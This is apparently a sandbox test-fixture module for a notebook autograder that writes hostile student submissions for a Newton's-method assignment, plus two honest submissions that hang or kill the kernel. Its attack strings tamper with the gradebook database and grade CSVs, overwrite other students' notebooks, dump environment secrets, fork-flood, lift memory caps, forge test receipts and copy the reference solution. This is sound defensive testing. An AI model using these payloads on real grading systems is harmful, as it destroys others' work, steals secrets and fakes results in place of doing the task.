"""Hostile and honest-but-unlucky submissions of 03_newton for the sandbox tests.

Each hostile notebook is blank apart from its attack: whatever it scores beyond 0 (or beyond
what its honest part earns) is undeserved, and if an attack worked it would show as marks for
itself, 0 for a canary, a changed file or a process left behind.
"""

from __future__ import annotations

import copy
from pathlib import Path

from .build import fill, solution_code, student_version, write

A = "03_newton"


def _with_cell(nb: dict, source: str, where: int | None = None) -> dict:
    """The notebook with one extra code cell of the student's (at the end by default)."""
    nb = copy.deepcopy(nb)
    cell = {"cell_type": "code", "execution_count": None, "id": f"student-{len(nb['cells'])}",
            "metadata": {}, "outputs": [], "source": source}
    nb["cells"].insert(len(nb["cells"]) if where is None else where, cell)
    return nb


# Each attack runs in the student's first solution cell, before any test cell.
ATTACKS = {
    # the gradebook, three folders up from the autograded folder: full marks for itself
    "gradebook": '''
import glob, os, sqlite3
hits = glob.glob("../../../gradebook.db") + glob.glob("/**/gradebook.db", recursive=True)
print("gradebooks seen:", hits)
for path in hits:
    db = sqlite3.connect(path)
    db.execute("update grade set auto_score = 1000")
    db.commit()
''',
    # the other students' submissions: overwrite them with empty notebooks
    "neighbours": '''
import glob
for path in glob.glob("../../../submitted/*/*/*.ipynb") + glob.glob("/**/*.ipynb", recursive=True):
    try:
        open(path, "w").write("{}")
        print("overwrote", path)
    except OSError as exc:
        print("could not write", path, exc)
''',
    # a process that outlives the kernel and rewrites grades.csv later
    "daemon": '''
import subprocess, sys
subprocess.Popen([sys.executable, "-c",
    "import glob, time\\n"
    "for _ in range(600):\\n"
    "    for p in glob.glob('/**/grades*.csv', recursive=True):\\n"
    "        open(p, 'w').write('student,total\\\\nevil,1000\\\\n')\\n"
    "    time.sleep(0.5)\\n"], start_new_session=True)
print("daemon started")
''',
    # the seed and any secret from the environment, precomputed hidden inputs
    "environment": '''
import os
print("environ:", dict(os.environ))
print("proc environ:", open("/proc/self/environ", "rb").read())
seed = os.environ.get("CURVATURE_LAB_GRADING_SEED")
key = os.environ.get("CURVATURE_LAB_RECEIPT_KEY")
print("seed", seed, "key", key)
''',
    # a socket to the loopback server the test starts ({port})
    "network": '''
import socket
for host in ("127.0.0.1", "localhost"):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"stolen")
        print("connected to", host)
    except OSError as exc:
        print("no connection:", exc)
''',
    # lift the memory cap, then take 8 GiB
    "memory_cap": '''
import resource
try:
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    print("lifted the cap")
except (ValueError, OSError) as exc:
    print("cap stays:", exc)
import numpy as np
try:
    big = np.ones(2**30)  # 8 GiB
    print("allocated", big.nbytes)
except MemoryError:
    print("MemoryError")
''',
    # many processes (bounded: each child sleeps and exits)
    "processes": '''
import os, time
made = 0
try:
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
        made += 1
except OSError as exc:
    print("fork stopped after", made, exc)
print("children", made)
''',
    # forged receipts and a replaced check
    "receipts": '''
import hessian_lab.grading as g
def fake(test_id, *args, **kwargs):
    print(f"passed: {test_id} [receipt {test_id}:{g.receipt(test_id)}]")
g.check = fake
''',
}

# the reference reached through names built at run time, and copied reference source
RUNTIME_REFERENCE = {
    "newton_iterate": '''
import importlib
def newton_iterate(grad, hess, x0, tol, max_iter):
    lib = importlib.import_module("hessian" + "_lab")
    solve = getattr(lib, "new" + "ton")
    return solve(lambda x: 0.0, grad, hess, x0, globalize=False, tol=tol,
                 max_iter=max_iter).path
''',
    "newton_globalized": '''
import sys
class Helper:
    def __init__(self):
        self.method = vars(sys.modules["hessian_lab.optimizers"])["new" + "ton"]
helper = Helper()
def newton_globalized(f, grad, hess, x0, tol, max_iter):
    return helper.method(f, grad, hess, x0, tol=tol, max_iter=max_iter).path
''',
}
COPIED_REFERENCE = {
    "newton_step": '''
import inspect, importlib
_src = inspect.getsource(getattr(importlib.import_module("hessian_lab.optimizers"), "newton"))
_namespace = dict(vars(importlib.import_module("hessian_lab.optimizers")))
exec(_src.replace("def newton(", "def my_newton("), _namespace)
my_newton = _namespace["my_newton"]
def newton_step(g, H):
    return np.linalg.solve(np.asarray(H, dtype=float), -np.asarray(g, dtype=float))
def newton_iterate(grad, hess, x0, tol, max_iter):
    return my_newton(lambda x: 0.0, grad, hess, x0, globalize=False, tol=tol,
                     max_iter=max_iter).path
''',
    "newton_iterate": "",
}


def threat_cases(root: Path, port: int) -> dict[str, str]:
    """Write the hostile submissions and two canaries; returns {student: threat}."""
    blank = student_version(A)
    right = solution_code(A)
    write(root, "canary_a", A, fill(blank, right))
    write(root, "canary_z", A, fill(blank, right))
    made = {}
    for name, code in ATTACKS.items():
        write(root, f"hostile_{name}", A,
              fill(blank, {"newton_step": code.replace("{port}", str(port))}))
        made[f"hostile_{name}"] = name
    write(root, "hostile_runtime_names", A, fill(blank, {**right, **RUNTIME_REFERENCE}))
    write(root, "hostile_copied_source", A, fill(blank, {**right, **COPIED_REFERENCE}))
    return made


# Honest students whose last cell goes wrong: only that cell is lost.
UNINTERRUPTIBLE = '''
# a long experiment that does not answer the interrupt (as one long call into LAPACK)
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
import numpy as np
A = np.random.default_rng(0).standard_normal((300, 300))
while True:
    A = np.linalg.qr(A)[0]
'''
DIES = '''
# an experiment that takes the kernel down
import os
os._exit(3)
'''


def honest_cases(root: Path) -> None:
    blank = student_version(A)
    right = solution_code(A)
    write(root, "honest_uninterruptible", A, _with_cell(fill(blank, right), UNINTERRUPTIBLE))
    # the kernel dies in a cell of its own after part 2's tests
    nb = fill(blank, right)
    index = next(i for i, c in enumerate(nb["cells"])
                 if (c.get("metadata", {}).get("nbgrader") or {}).get("grade_id")
                 == "newton_globalized_text")
    write(root, "honest_dies", A, _with_cell(nb, DIES, where=index))
